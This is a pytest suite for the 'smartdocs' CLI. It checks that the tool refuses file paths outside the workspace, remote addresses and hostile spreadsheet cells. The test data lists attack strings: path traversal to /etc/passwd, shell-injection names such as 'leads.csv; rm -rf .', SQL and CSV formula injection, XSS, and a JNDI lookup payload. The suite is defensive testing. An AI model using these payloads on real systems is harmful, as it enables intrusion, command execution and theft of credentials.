"""Files, addresses and cells that mean harm: each is refused with a sentence at its place, or stays the plain text that it is."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from workspace import workspace

from smartdocs.cli import program

TERM = (
    "speed: {by: sales, promise: {measure: attempts, of: lead, within: 6 business hours, for_at_least: 80%}}"
)
LEADS = "lead_id|handed_off_at|owner\nL3|2024-06-03T10:00|Ada Probe"
CALLS = "lead_id|type|occurred_at\nL3|call|2024-06-03T11:00"
OUTSIDE = (
    "/etc/passwd", "../leads.csv", "../../../../../../../../etc/passwd", "./../leads.csv", "a/../../leads.csv", "/proc/self/environ",
    "/dev/stdin", "/dev/zero", "/dev/fd/0", "sqlite:/etc/passwd", "sqlite:../leads.db#leads", "sqlite:///../leads.db", "duckdb:/tmp/other.db",
    "duckdb:../leads.db", "../*.csv", "/etc/*", "/**/*.csv", "link.csv", "folder-link/passwd", "/etc/passwd#leads",
)  # fmt: skip
ADDRESSES = (
    "http://localhost/leads.csv", "https://example.org/leads.csv", "HTTPS://example.org/leads.csv", "ftp://example.org/leads.csv",
    "s3://bucket/leads.parquet", "gs://bucket/leads.parquet", "gcs://bucket/leads.parquet", "az://container/leads.parquet", "r2://bucket/leads.csv",
    "hf://datasets/leads/leads.csv", "file:///etc/passwd", "file://localhost/etc/passwd", "jdbc:odbc://x", "ssh://example.org/leads.csv",
    "git+https://example.org/leads.git", "javascript://alert(1)", "data://text/csv,lead_id", "ldap://example.org/x", "gopher://example.org/x", "smb://server/share/leads.csv",
)  # fmt: skip
NOT_THERE = (
    "~/leads.csv", "$HOME/leads.csv", "%APPDATA%/leads.csv", "|cat /etc/passwd", "leads.csv|cat", "leads.csv; rm -rf .", "`id`.csv", "$(id).csv",
    "leads.csv'); DROP TABLE lead; --", "leads.csv' UNION SELECT * FROM read_csv('/etc/passwd", "read_csv('/etc/passwd')", "-", "\\\\server\\share\\leads.csv",
    "leads.csv\u202ecsv.exe", "CON", "folder", "folder/", ".", "x" * 5000 + ".csv", "data:text/csv,lead_id", "javascript:alert(1)",
)  # fmt: skip
UNREADABLE = ("leads.csv\x00.png", "\x1b[31mleads.csv", "leads\x07.csv")
"""YAML itself has no such characters."""
CELLS = (
    "=1+1", "=HYPERLINK(\"http://example.org\",\"x\")", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1", "'; DROP TABLE lead; --",
    "\" OR 1=1 --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://example.org/x}", "../../etc/passwd",
    "\x1b[31mred\x1b[0m", "\u202eevil", "%s%s%n", "NULL", "nan", "inf", "1e999", "\U0001f608", "\ufeffbom", "𝕬𝖉𝖆", "ａｄａ", "x" * 10_000,
)  # fmt: skip


@pytest.fixture
def made(tmp_path: Path) -> Path:
    return workspace(tmp_path / "w", terms=TERM, leads=LEADS, activities=CALLS)


def check(folder: Path, *args: str) -> Result:
    return CliRunner().invoke(
        program,
        ["check", "--project", str(folder), "--as-of", "2024-07-05T12:00:00-04:00", "--period", "2024-06", *args],
    )  # fmt: skip


def reading(folder: Path, file: str) -> tuple[int, str]:
    """Check with another leads file; the exit code and what is said."""
    settings = folder / "smartdocs.yaml"
    text = settings.read_text("utf-8")
    written = '"' + file.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert "leads: leads.csv" in text
    settings.write_text(text.replace("leads: leads.csv", f"leads: {written}"), "utf-8")
    found = check(folder)
    settings.write_text(text, "utf-8")
    code = getattr(found.exception, "exit_code", found.exit_code)
    return int(code), f"{found.exception}\n{found.output}"


def test_a_file_outside_of_the_workspace_is_never_read(made: Path) -> None:
    (made.parent / "leads.csv").write_text((made / "leads.csv").read_text("utf-8"), "utf-8")
    (made / "link.csv").symlink_to(made.parent / "leads.csv")
    (made / "folder-link").symlink_to("/etc", target_is_directory=True)
    refused = [(file, *reading(made, file)) for file in OUTSIDE]
    assert [
        file
        for file, code, said in refused
        if code == 2 and "smartdocs.yaml:" in said and ("lies outside of the workspace" in said or "is not there" in said or "no file matches" in said)
    ] == list(OUTSIDE)  # fmt: skip
    assert len(OUTSIDE) == 20
    assert not [said for _, _, said in refused if "root:" in said]


def test_an_address_is_never_fetched(made: Path) -> None:
    refused = [(file, *reading(made, file)) for file in ADDRESSES]
    assert [
        file for file, code, said in refused if code == 2 and "address, which cannot be read" in said
    ] == list(ADDRESSES)
    assert len(ADDRESSES) == 20


def test_a_name_is_never_more_than_a_name(made: Path) -> None:
    (made / "folder").mkdir()
    before = sorted(path.name for path in made.iterdir())
    refused = [(file, *reading(made, file)) for file in NOT_THERE]
    assert [
        file
        for file, code, said in refused
        if code == 2 and "smartdocs.yaml:" in said and any(words in said for words in ("is not there", "is a folder", "no file matches", "cannot be looked for: File name too long"))
    ] == list(NOT_THERE)  # fmt: skip
    assert len(NOT_THERE) == 21
    assert sorted(path.name for path in made.iterdir()) == before


def test_invisible_characters_in_a_name_are_no_yaml(made: Path) -> None:
    for file in UNREADABLE:
        code, said = reading(made, file)
        assert code == 2
        assert "smartdocs.yaml:" in said


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes")
def test_a_pipe_is_no_file_and_nobody_waits_for_it(made: Path) -> None:
    os.mkfifo(made / "pipe.csv")
    assert reading(made, "pipe.csv")[0] == 2


def test_a_cell_is_text_whatever_stands_in_it(tmp_path: Path) -> None:
    made = workspace(tmp_path / "w", terms=TERM, leads=LEADS, activities=CALLS)
    with (made / "leads.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["lead_id", "handed_off_at", "owner"])
        writer.writerows([f"L{n}", "2024-06-03T10:00", cell] for n, cell in enumerate(CELLS))
    out_dir = tmp_path / "evidence"
    found = check(made, "--by", "owner", "--evidence", str(out_dir), "--show-ids")
    assert found.exit_code == 1, found.output
    assert not [c for c in found.output if ord(c) < 32 and c != "\n"]
    with (out_dir / "obligations.csv").open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened, strict=True))
    assert len(rows) == len(CELLS) == 27
    assert not [row["owner"] for row in rows if row["owner"].lstrip()[:1] in tuple("=+-@")]


def test_a_cell_with_a_nul_byte_is_refused_with_its_line(tmp_path: Path) -> None:
    made = workspace(tmp_path / "w", terms=TERM, leads=LEADS, activities=CALLS)
    (made / "leads.csv").write_bytes(b"lead_id,handed_off_at\nL1,2024-06-03T10:00\nL\x002,2024-06-03T10:00\n")
    error = check(made).exception
    assert str(error).startswith(
        "leads.csv:3: a NUL byte: the file is damaged, or it is UTF-16 without its mark"
    )
